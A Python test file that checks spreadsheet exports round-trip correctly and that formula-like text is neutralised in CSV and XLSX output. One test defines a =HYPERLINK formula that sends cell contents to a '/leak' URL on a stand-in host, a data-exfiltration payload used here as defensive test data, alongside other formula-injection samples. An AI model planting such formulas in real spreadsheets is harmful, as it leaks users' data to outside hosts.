"""XLSX exports read back as the same table."""

from __future__ import annotations

import csv
import io

import pandas as pd
from openpyxl import load_workbook

from posture.exports import neutralise, to_csv, to_xlsx


def test_an_xlsx_export_reads_back_as_the_same_table() -> None:
    frame = pd.DataFrame(
        {
            "product": ["Vault", "Ledger"],
            "score": [91.5, 40.0],
            "band": ["A", "D"],
            "trend": ["▲", "▼"],
        }
    )
    raw = to_xlsx(frame, "League table")
    assert raw[:2] == b"PK"  # an Office Open XML zip
    back = pd.read_excel(io.BytesIO(raw), sheet_name="League table")
    pd.testing.assert_frame_equal(back, frame)


HOSTILE_NAME = '=HYPERLINK("http://127.0.0.1:9/leak?"&A1,"Vault")'


def test_a_formula_looking_name_exports_to_csv_as_shown_text() -> None:
    frame = pd.DataFrame(
        {"product": [HOSTILE_NAME, "+1-2", "@SUM(A1)", "Plain"], "score": [1, 2, 3, -4]}
    )
    rows = list(csv.reader(io.StringIO(to_csv(frame))))
    assert rows[0] == ["product", "score"]
    assert [r[0] for r in rows[1:]] == [f"'{HOSTILE_NAME}", "'+1-2", "'@SUM(A1)", "Plain"]
    # Numbers stay numbers: only text is neutralised.
    assert rows[4][1] == "-4"


def test_a_formula_looking_name_exports_to_xlsx_as_a_string_not_a_formula() -> None:
    raw = to_xlsx(pd.DataFrame({"product": [HOSTILE_NAME], "score": [91.5]}), "Shortlist")
    sheet = load_workbook(io.BytesIO(raw))["Shortlist"]
    cell = sheet["A2"]
    assert cell.data_type == "s"
    assert cell.value == HOSTILE_NAME
    assert sheet["B2"].value == 91.5


def test_tab_and_carriage_return_starts_are_neutralised_too() -> None:
    assert neutralise("\t=1+1") == "'\t=1+1"
    assert neutralise("\r=1") == "'\r=1"
    assert neutralise("Vault = good") == "Vault = good"
    assert neutralise(-5) == -5


def test_a_missing_value_is_an_empty_cell_in_csv_as_in_xlsx() -> None:
    frame = pd.DataFrame(
        {
            "title": ["=cmd", "plain"],
            "residual": [None, "Low"],
            "score": [float("nan"), 3.5],
            "when": [pd.NaT, pd.Timestamp("2026-12-07")],
        }
    )
    rows = list(csv.reader(io.StringIO(to_csv(frame))))
    assert rows[1] == ["'=cmd", "", "", ""]
    assert rows[2][:3] == ["plain", "Low", "3.5"]
    assert "nan" not in to_csv(frame).lower().replace("'=cmd", "")
